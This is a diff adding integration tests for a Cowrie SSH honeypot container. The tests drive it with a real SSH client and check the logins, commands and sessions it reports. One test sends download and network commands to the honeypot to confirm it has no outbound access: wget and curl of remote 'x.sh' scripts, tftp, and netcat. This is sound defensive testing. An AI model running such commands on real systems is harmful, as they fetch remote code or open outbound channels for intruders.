@@ -1,0 +1,175 @@
+"""cowrie in its container, attacked with a real SSH client."""
+
+import json
+import os
+import re
+import socket
+import subprocess
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
+from container import HoneypotContainer
+from sensor_end import SensorEnd
+from waiting import wait_for
+
+from sensor_wire.v1.event import EventBody
+
+IMAGE = os.environ.get("HONEYSENS_COWRIE_IMAGE", "honeysens/service-cowrie:latest")
+
+pytestmark = pytest.mark.docker
+
+
+@pytest.fixture
+def cowrie(sensor_end: SensorEnd) -> Iterator[HoneypotContainer]:
+    with HoneypotContainer(IMAGE, sensor_end.path.parent) as container:
+        container.wait_for_port(2222)
+        yield container
+
+
+def ssh(cowrie: HoneypotContainer, user: str, password: str, command: str = "") -> subprocess.CompletedProcess[str]:
+    options = [
+        "StrictHostKeyChecking=no",
+        "UserKnownHostsFile=/dev/null",
+        "LogLevel=ERROR",
+        "NumberOfPasswordPrompts=1",
+    ]
+    options += ["PubkeyAuthentication=no", "ConnectTimeout=60"]
+    flags = [part for option in options for part in ("-o", option)]
+    client = ["ssh", *flags, "-p", "2222", f"{user}@{cowrie.address}", command]
+    return subprocess.run(
+        ["sshpass", "-e", *client],
+        env={**os.environ, "SSHPASS": password},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+        stdin=subprocess.DEVNULL,
+    )
+
+
+def details(events: list[EventBody], kind: str) -> list[str]:
+    return [detail.data for event in events for detail in event.details if detail.kind == kind]
+
+
+def sessions(events: list[EventBody]) -> dict[str, list[EventBody]]:
+    """Group what has a login; the probes for the open port have none."""
+    grouped: dict[str, list[EventBody]] = {}
+    for event in events:
+        grouped.setdefault(event.session, []).append(event)
+    return {key: value for key, value in grouped.items() if details(value, "login")}
+
+
+def closed(sensor: SensorEnd, count: int = 1) -> bool:
+    return sum(bool(details(events, "closed")) for events in sessions(sensor.events).values()) >= count
+
+
+def test_login_with_commands_is_one_session(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    done = ssh(cowrie, "root", "Winter2026", "uname -a; id")
+    assert "Linux files01" in done.stdout, done
+    wait_for(lambda: closed(sensor_end), 15, lambda: f"the session to end; {sensor_end.events}")
+    assert not sensor_end.problems
+    (events,) = sessions(sensor_end.events).values()
+    first = events[0]
+    assert (first.kind, first.severity) == ("connection", "low")
+    assert str(first.source.ip) == cowrie.gateway
+    assert (str(first.destination.ip), first.destination.port) == (cowrie.address, 2222)
+    assert [json.loads(data) for data in details(events, "login")] == [
+        {"user": "root", "password": "Winter2026", "accepted": True}
+    ]
+    assert details(events, "command") == ["uname -a; id"]
+    assert max(event.severity for event in events if event.kind == "login") == "high"
+
+
+def test_first_event_comes_at_the_connection(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    with socket.create_connection((cowrie.address, 2222)) as connection:
+        port = connection.getsockname()[1]
+        wait_for(
+            lambda: any(event.source.port == port for event in sensor_end.events),
+            5,
+            "an event while the client is silent",
+        )
+
+
+def test_refused_login_keeps_the_credentials(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    assert ssh(cowrie, "nobody", "pass\x01\u00e9").returncode != 0
+    wait_for(lambda: closed(sensor_end), 15, "the session to end")
+    (events,) = sessions(sensor_end.events).values()
+    (attempt,) = [json.loads(data) for data in details(events, "login")]
+    assert (attempt["user"], attempt["accepted"]) == ("nobody", False)
+    assert attempt["password"] == r"pass\x01\xc3\xa9"  # cowrie's own way to write what is not printable
+
+
+def test_flood_of_logins_keeps_each_session(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    with ThreadPoolExecutor(16) as pool:
+        list(pool.map(lambda number: ssh(cowrie, "root", f"password-{number}", "exit"), range(200)))
+    wait_for(lambda: closed(sensor_end, 200), 60, lambda: f"200 sessions; {len(sessions(sensor_end.events))}")
+    assert not sensor_end.problems
+    grouped = sessions(sensor_end.events)
+    passwords = sorted(json.loads(data)["password"] for events in grouped.values() for data in details(events, "login"))
+    assert passwords == sorted(f"password-{number}" for number in range(200))
+    assert len({event.id for event in sensor_end.events}) == len(sensor_end.events)
+
+
+def test_sensor_that_goes_and_returns_gets_all_once(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    def restart() -> None:
+        sensor_end.stop()
+        sensor_end.start()
+        sensor_end.lose_answers = 3
+
+    with ThreadPoolExecutor(4) as pool:
+        attacks = [pool.submit(ssh, cowrie, "root", f"password-{number}", "exit") for number in range(20)]
+        attacks[8].result()
+        restart()
+        for attack in attacks:
+            attack.result()
+    wait_for(lambda: closed(sensor_end, 20), 60, lambda: f"20 sessions; {len(sessions(sensor_end.events))}")
+    unique = {event.id: event for event in sensor_end.events}
+    assert len(unique) < len(sensor_end.events), "no answer was lost: the test tried nothing"
+    logins = [json.loads(data)["password"] for data in details(list(unique.values()), "login")]
+    assert sorted(logins) == sorted(f"password-{number}" for number in range(20))
+
+
+def test_crashed_adapter_goes_on_where_it_was(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    ssh(cowrie, "root", "before", "exit")
+    kill = """
+import os, pathlib
+for process in pathlib.Path('/proc').glob('[0-9]*'):
+    if (process / 'cmdline').read_bytes().endswith(b'\\0cowrie_adapter\\0'):
+        os.kill(int(process.name), 9)
+        print(process)
+"""
+    assert cowrie.execute("python", "-c", kill)
+    ssh(cowrie, "root", "after", "exit")
+    wait_for(lambda: closed(sensor_end, 2), 30, "both sessions")
+    unique = {event.id: event for event in sensor_end.events}
+    logins = [json.loads(data)["password"] for data in details(list(unique.values()), "login")]
+    assert sorted(logins) == ["after", "before"]
+
+
+@pytest.mark.parametrize(
+    ("command", "answer"),
+    [
+        ("wget http://example.org/x.sh", "Temporary failure in name resolution"),
+        ("wget http://198.51.100.7/x.sh", "failed|unable|refused|unreachable"),
+        ("wget http://8.8.8.8/x.sh", "failed|unable|refused|unreachable"),
+        ("curl http://8.8.8.8/x.sh", "curl:"),
+        ("curl http://example.org/x.sh", "Could not resolve host"),
+        ("tftp -g -r x 8.8.8.8", ""),
+        ("nc 8.8.8.8 80", ""),
+        ("ping -c 1 example.org", ""),
+    ],
+)
+def test_no_way_out_and_quickly(cowrie: HoneypotContainer, command: str, answer: str) -> None:
+    done = ssh(cowrie, "root", "x", f"{command}; echo done")
+    assert "done" in done.stdout
+    assert re.search(answer, done.stdout + done.stderr), done
+
+
+def test_stop_hands_over_the_rest(sensor_end: SensorEnd, cowrie: HoneypotContainer) -> None:
+    with ThreadPoolExecutor(1) as pool:
+        attack = pool.submit(ssh, cowrie, "root", "x", "sleep 60")
+        wait_for(lambda: details(sensor_end.events, "login"), 20, "the login")
+        assert cowrie.stop() == 0
+        attack.result()
+    assert details(sensor_end.events, "command") == ["sleep 60"]
